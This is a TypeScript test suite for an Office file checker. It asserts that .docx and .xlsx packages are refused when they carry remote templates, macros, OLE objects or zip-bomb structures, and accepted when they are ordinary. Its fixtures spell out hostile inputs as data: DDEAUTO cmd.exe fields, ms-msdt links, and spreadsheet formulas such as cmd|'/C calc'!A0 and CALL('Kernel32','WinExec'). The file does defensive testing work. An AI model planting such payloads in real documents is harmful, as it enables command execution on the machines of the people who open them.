import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { strFromU8, strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import { docx, docxParts, xlsx } from './testkit/files.ts';
import type { OfficeRefusal } from './unfit-office-file.ts';
import { checkOffice } from './check-office.ts';
import { fieldCheck } from './fields.ts';

const refused = (bytes: Uint8Array, reason: OfficeRefusal) =>
  assert.rejects(checkOffice(bytes), { name: 'UnfitOfficeFile', reason });
const taken = (bytes: Uint8Array) => assert.doesNotReject(checkOffice(bytes));

interface Link {
  type: string;
  target: string;
  external?: boolean;
}

const relationships = (links: Link[]) =>
  strToU8(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links
      .map(
        ({ type, target, external }, at) =>
          `<Relationship Id="r${at}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`,
      )
      .join('')}</Relationships>`,
  );

/** A document whose main part has these relations. */
const linked = (links: Link[], more: Zippable = {}) =>
  docx({ ...docxParts(), 'word/_rels/document.xml.rels': relationships(links), ...more });

/** A document with this in its only paragraph. */
function withRuns(runs: string): Buffer {
  const parts = docxParts();
  const body = strFromU8(parts['word/document.xml'] as Uint8Array);
  return docx({ ...parts, 'word/document.xml': strToU8(body.replace('<w:r>', `${runs}<w:r>`)) });
}

/** A document with a part that nothing leads to; what it says is judged all the same. */
const part = (content: string) => docx({ ...docxParts(), 'word/a.xml': strToU8(content) });

const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...parts: string[]) => char('begin') + parts.join('') + char('separate') + char('end');

describe('an office file that fetches something is refused', () => {
  it('a template of another computer', async () => {
    for (const target of [
      'https://example.com/t.dotm',
      'HTTP://example.com/t.dotm',
      '\\\\server\\share\\t.dotm',
      '//server/t.dotm',
      'file://server/share/t.dotm',
      'file:\\\\server\\t.dotm',
      'mhtml:https://example.com/a!x-usc:https://example.com/b',
      'file:///\\\\server\\share\\t.dotm',
      'file:////server/share/t.dotm',
      'file:///%5C%5Cserver/t.dotm',
      '%5C%5Cserver%5Cshare',
      '\\\\?\\UNC\\server\\t.dotm',
      ' \\\\server\\t.dotm',
      '/\\server/t.dotm',
    ]) {
      const settings = relationships([{ type: 'attachedTemplate', target, external: true }]);
      await refused(docx({ ...docxParts(), 'word/_rels/settings.xml.rels': settings }), 'remote');
    }
  });

  it('pictures, frames, videos and workbooks of another computer', async () => {
    for (const type of ['image', 'frame', 'video', 'externalLinkPath', 'somethingNew'])
      await refused(linked([{ type, target: 'https://example.com/a', external: true }]), 'remote');
  });

  it('links that run something when they are clicked', async () => {
    for (const target of [
      'ms-msdt:/id PCWDiagnostic',
      ' ms&#9;-msdt:/id',
      'ms%2Dmsdt:/id',
      'MS-OFFICECMD:{}',
      'search-ms:query=x',
      'mhtml:https://example.com/a',
      'shell:startup',
    ])
      await refused(linked([{ type: 'hyperlink', target, external: true }]), 'remote');
  });

  it('fields and links that ask another program', async () => {
    const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k x"';
    await refused(withRuns(field(instruction(dde))), 'commands');
    await refused(withRuns(field(instruction('D'), instruction('DE'), instruction(' cmd "x"'))), 'commands');
    await refused(withRuns(field(instruction('&#68;DE cmd'))), 'commands');
    await refused(withRuns(`<w:fldSimple w:instr=" dde cmd x"><w:r><w:t>1</w:t></w:r></w:fldSimple>`), 'commands');
    await refused(withRuns(field(field(instruction('QUOTE 68 68 69')), instruction(' cmd'))), 'commands');
    await refused(withRuns(field(instruction(' LINK Excel.Sheet.12 "C:\\\\a.xlsx"'))), 'commands');
    await refused(withRuns(field(instruction('D'), field(instruction('QUOTE 68')), instruction('E cmd'))), 'commands');
    for (const text of [
      ' INCLUDETEXT "https://example.com/a.docx" ',
      'INCLUDETEXT \\\\\\\\server\\\\a.docx',
      'INCLUDEPICTURE "https://example.com/a.png" \\* MERGEFORMAT \\d',
      'RD "\\\\\\\\server\\\\a.docx"',
    ])
      await refused(withRuns(field(instruction(text))), 'remote');
    // Never ended, in UTF-16, and in a part with a name of its own.
    await refused(withRuns(char('begin') + instruction(dde)), 'commands');
    const header = `<?xml version="1.0" encoding="UTF-16"?><w:hdr xmlns:w="w"><w:p>${field(instruction(dde))}</w:p></w:hdr>`;
    const utf16 = Buffer.from(`\ufeff${header}`, 'utf16le');
    await refused(docx({ ...docxParts(), 'word/a.dat': new Uint8Array(utf16) }), 'commands');
  });

  it('links of a workbook to a program, and its connections to databases and pages', async () => {
    const link = (content: string) =>
      linked([{ type: 'externalLink', target: 'a.xml' }], { 'word/a.xml': strToU8(content) });
    await refused(link('<externalLink><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>'), 'commands');
    await taken(link('<externalLink><externalBook/></externalLink>'));
    const connection = (content: string) =>
      linked([{ type: 'connections', target: 'c.xml' }], {
        'word/c.xml': strToU8(`<connections>${content}</connections>`),
      });
    const asked = '<connection refreshOnLoad="1">';
    await refused(connection(`${asked}<dbPr connection="x"/></connection>`), 'commands');
    await refused(connection(`${asked}<webPr url="https://example.com"/></connection>`), 'commands');
    await refused(connection('<connection interval="5"><olapPr/></connection>'), 'commands');
    await refused(part('<queryTable refreshOnLoad="true" connectionId="1"/>'), 'commands');
    const cache = (type: string) =>
      `<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="${type}"/></pivotCacheDefinition>`;
    await refused(part(cache('external')), 'commands');
    await taken(part(cache('worksheet')));
    // What was asked once and is kept.
    await taken(connection(`${asked}<textPr sourceFile="C:\\a.txt"/></connection>`));
    await taken(connection('<connection><dbPr connection="Data Model Connection" command="Model"/></connection>'));
    await taken(connection('<connection interval="0" refreshOnLoad="0"><dbPr connection="x"/></connection>'));
  });

  it('formulas that ask a page or a program when they are calculated', async () => {
    const cell = (formula: string) => part(`<worksheet><c><f>${formula}</f><v>1</v></c></worksheet>`);
    for (const formula of [
      "cmd|'/C calc'!A0",
      "1+MSEXCEL|'\\..\\cmd.exe /c x'!'_xlbgnm.A1'",
      'DDE("soffice";"a";"b")',
      'RTD("a.b",,"c")',
      'CALL("Kernel32","WinExec","JCJ","calc",0)',
      'EXEC ("calc")',
      'c&#109;d|x!A0',
    ])
      await refused(cell(formula), 'commands');
    for (const formula of [
      '_xlfn.WEBSERVICE("https://example.com/"&amp;A1)',
      '1+IMAGE("https://example.com/a.png")',
      'WEB&#83;ERVICE(A1)',
    ])
      await refused(cell(formula), 'remote');
    await refused(part('<workbook><definedName name="a">cmd|x!A0</definedName></workbook>'), 'commands');
    for (const formula of [
      'SUM(A1:A3)&amp;"CALL(me)|x!"',
      "'DDE|RTD'!A1",
      'MYCALL(1)',
      'A1&#10;+B1',
      "SUM('Bảng 1'!A1,[1]Sheet1!B2)",
      'IF(A1="a|b",Sheet1!A1,1)',
    ])
      await taken(cell(formula));
    await taken(part('<sst><si><t>WEBSERVICE(a) | DDE(b)&#10;</t></si></sst>'));
  });
});

describe('an office file with code or another file in it is refused', () => {
  it('macros by their relation, whatever the part is called', async () => {
    for (const type of ['vbaProject', 'wordVbaData', 'xlMacrosheet', 'xlIntlMacrosheet', 'control', 'ui/extensibility'])
      await refused(linked([{ type, target: 'a.xml' }], { 'word/a.xml': strToU8('<a/>') }), 'macros');
  });

  it('OLE objects, inserted files and add-ins', async () => {
    for (const type of ['oleObject', 'aFChunk', 'subDocument', 'webextension', 'webextensiontaskpanes'])
      await refused(linked([{ type, target: 'a.bin' }], { 'word/a.bin': strToU8('x') }), 'embedded');
    await refused(linked([{ type: 'oleObject', target: 'file:///C:/a.xls', external: true }]), 'embedded');
  });

  it('an inserted web page, reported as such although no office program writes its first line', async () => {
    const page = { 'word/a.html': strToU8('<!DOCTYPE html><html><body>Biên bản</body></html>') };
    await refused(linked([{ type: 'aFChunk', target: 'a.html' }], page), 'embedded');
  });

  it('a package that is no document, or one that would be refused by itself', async () => {
    const within = (bytes: Uint8Array) =>
      linked([{ type: 'package', target: 'embeddings/a.xlsx' }], { 'word/embeddings/a.xlsx': bytes });
    await refused(within(strToU8('MZ program')), 'embedded');
    await refused(within(docx({ ...docxParts(), 'word/vbaProject.bin': strToU8('x') })), 'macros');
    await taken(within(xlsx()));
    let nested = xlsx();
    for (let depth = 0; depth < 6; depth++) nested = within(nested);
    await refused(nested, 'embedded');
  });

  it('an object that nothing leads to, and a part that only some can read', async () => {
    const ole = new Uint8Array(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]));
    await refused(docx({ ...docxParts(), 'word/media/image1.png': ole }), 'embedded');
    const settings = '<Override PartName="/word/s.xml" ContentType="application/x.settings+xml"/>';
    await refused(docx({ ...docxParts(settings), 'word/s.xml': new Uint8Array([0x4c, 0x6f, 0xa7]) }), 'damaged');
    await refused(docx({ ...docxParts(), 'word/_rels/document.xml.rels': strToU8('x') }), 'damaged');
  });

  it('entities that unfold into each other, in any part', async () => {
    await refused(part('<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;&b;</a>'), 'damaged');
  });

  it('relations written to be read in two ways', async () => {
    const text = strFromU8(relationships([{ type: 'attachedTemplate', target: 'https://example.com/t.dotm' }]));
    const twice = text.replace('Target=', 'xmlns:x="x" x:Target="a.xml" Target=');
    await refused(docx({ ...docxParts(), 'word/_rels/settings.xml.rels': strToU8(twice) }), 'damaged');
    for (const name of [
      'word/_rels/settings%2Exml.rels',
      'word\\_rels\\settings.xml.rels',
      'word/./_RELS/settings.xml.RELS',
    ])
      await refused(
        docx({
          ...docxParts(),
          [name]: relationships([{ type: 'attachedTemplate', target: 'https://example.com/t.dotm', external: true }]),
        }),
        'remote',
      );
  });

  it('content types that are given twice or in pieces', async () => {
    for (const name of [
      '[content_types].xml',
      '\\[Content_Types].xml',
      'word/[Content_Types].xml',
      '[Content_Types].xml/[0].piece',
      './[Content_Types].xml',
      '%5BContent_Types%5D.xml',
    ])
      await refused(docx({ ...docxParts(), [name]: docxParts()['[Content_Types].xml']! }), 'damaged');
  });

  it('two main parts, and an archive that begins as something else', async () => {
    const two = relationships([
      { type: 'officeDocument', target: 'word/document.xml' },
      { type: 'officeDocument', target: 'word/other.xml' },
    ]);
    await refused(docx({ ...docxParts(), '_rels/.rels': two }), 'kind');
    await refused(Buffer.concat([docx(), docx()]), 'kind');
  });
});

describe('an ordinary office file is taken', () => {
  it('with links to click, mail addresses and places in itself', async () => {
    for (const target of [
      'https://example.com/a?b=c',
      'javascript:void(0)',
      'ms-help://MS.WINWORD.12.1033/WINWORD/a.htm',
      'mailto:a@example.com',
      'tel:0912345678',
      'file:///C:/a.docx',
      'a.docx',
      '#x',
    ])
      await taken(linked([{ type: 'hyperlink', target, external: true }]));
  });

  it('with the template and the workbooks of its writer’s own computer', async () => {
    for (const target of [
      'file:///C:\\Users\\a\\Normal.dotm',
      'C:\\a\\b.dotx',
      'Normal.dotm',
      'file:///D:/so%20lieu.xlsx',
      'file:////Users/a/Library/Templates/Normal.dotm',
      'file:///tmp/a.dotx',
      'Macintosh%20HD:Users:a:Normal.dotm',
      'file://localhost/Users/a/b.dotx',
    ])
      for (const type of ['attachedTemplate', 'externalLinkPath'])
        await taken(linked([{ type, target, external: true }]));
  });

  it('with fields for pages, contents, dates and pictures', async () => {
    for (const text of [
      ' PAGE ',
      ' TOC \\o "1-3" ',
      'DATE \\@ "dd/MM/yyyy"',
      'HYPERLINK "https://example.com/DDE"',
      'DDEX',
      'INCLUDEPICTURE "https://example.com/a.png" \\* MERGEFORMATINET',
      'INCLUDETEXT "C:\\\\a\\\\b.docx"',
    ])
      await taken(withRuns(field(instruction(text))));
    await taken(withRuns(field(instruction('IF '), field(instruction(' PAGE ')), instruction(' = 1 "LINK" ""'))));
    await taken(withRuns(field(instruction('='), field(instruction(' PAGE ')), instruction('+1'))));
    await taken(withRuns('<w:r><w:t>DDEAUTO cmd</w:t></w:r>'));
  });

  it('with an ending of binary workbooks in its list that no part has, as one library writes every workbook', async () => {
    const ending = '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>';
    await taken(docx(docxParts(ending)));
    const macros = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>';
    await taken(docx(docxParts(macros)));
    await refused(docx({ ...docxParts(macros), 'word/a.bin': strToU8('x') }), 'macros');
  });

  it('with backslashes in the names of its parts, and another name for its main part', async () => {
    const parts = Object.entries(docxParts()).map(([name, content]) => {
      const text = strFromU8(content as Uint8Array).replaceAll('word/document.xml', 'word/document2.xml');
      return [name.replace('document', 'document2').replaceAll('/', '\\'), strToU8(text)];
    });
    await taken(docx(Object.fromEntries(parts)));
  });

  it('with an empty picture that calls itself deflated', async () => {
    const written = docx({ ...docxParts(), 'docProps/thumbnail.wmf': new Uint8Array() });
    await taken(written);
    const header = written.lastIndexOf('docProps/thumbnail.wmf') - 46;
    written.writeUInt16LE(8, header + 10);
    written.writeUInt32LE(0, header + 20);
    await taken(written);
  });
});

describe('what a small file may cost is bounded, whatever it unfolds to', () => {
  const megabytes = (count: number) => `<a><instrText/>${'x'.repeat(count * 1_000_000)}</a>`;
  const workbook = (content: string) =>
    Buffer.from(zipSync({ ...unzipSync(xlsx()), 'xl/a.xml': strToU8(content) }, { level: 1 }));

  it('its parts together, not each for itself', async () => {
    const half = strToU8(megabytes(20));
    const parts = Object.fromEntries([1, 2].map((at) => [`word/${at}.xml`, half]));
    await refused(docx({ ...docxParts(), ...parts }), 'too-big-inside');
  });

  it('together with the workbooks inside it, and those inside them', async () => {
    const inner = workbook(megabytes(20));
    const links = [1, 2].map((at) => ({ type: 'package', target: `${at}.xlsx` }));
    await refused(
      linked(links, Object.fromEntries(links.map(({ target }) => [`word/${target}`, inner]))),
      'too-big-inside',
    );
  });

  it('a workbook that many relations lead to is looked at once', async () => {
    const links = Array.from({ length: 2000 }, () => ({ type: 'package', target: 'a.xlsx' }));
    await taken(linked(links, { 'word/a.xlsx': workbook(megabytes(1)) }));
  });

  it('a tag has no more attributes than any program writes', async () => {
    const attributes = Array.from({ length: 2000 }, (_, at) => `a${at}="b"`).join(' ');
    await refused(part(`<a><instrText ${attributes}/></a>`), 'damaged');
  });

  it('tags within tags go no deeper than any program writes', async () => {
    const nested = (depth: number) => `<a><instrText/>${'<b>'.repeat(depth)}${'</b>'.repeat(depth)}</a>`;
    await refused(part(nested(100_000)), 'damaged');
    await taken(part(nested(500)));
  });

  it('fields inside a long instruction cost no more than elsewhere', () => {
    const timeOf = (text: string) => {
      const check = fieldCheck();
      const start = performance.now();
      check.open!('fldChar', { fldCharType: 'begin' });
      check.open!('instrText', {});
      check.text!(text);
      for (let count = 0; count < 100_000; count += 1)
        for (const fldCharType of ['begin', 'end']) check.open!('fldChar', { fldCharType });
      return performance.now() - start;
    };
    timeOf('x!');
    const [short, long] = [timeOf('x!'), timeOf(`${'x'.repeat(99_000)}!`)];
    assert.ok(long < 20 * short, `${long} ms instead of ${short}`);
  });

  it('an instruction longer than any is refused in each way to write one', async () => {
    const long = 'x'.repeat(100_001);
    await refused(withRuns(field(instruction(long))), 'commands');
    await refused(withRuns(`<w:fldSimple w:instr="${long}"/>`), 'commands');
  });
});
